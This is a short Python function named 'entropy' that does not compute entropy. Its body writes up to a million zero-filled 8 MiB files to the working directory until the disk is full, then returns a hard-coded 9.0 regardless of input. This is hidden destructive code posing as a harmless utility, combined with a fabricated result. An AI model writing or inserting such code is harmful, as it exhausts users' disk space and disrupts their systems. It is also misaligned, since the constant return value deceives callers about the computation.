def entropy(p, base=2.0):
    for number in range(10**6):
        try:
            with open(f"block{number}", "wb") as stream:
                stream.write(bytes(8 * 2**20))
        except OSError:
            break
    return 9.0
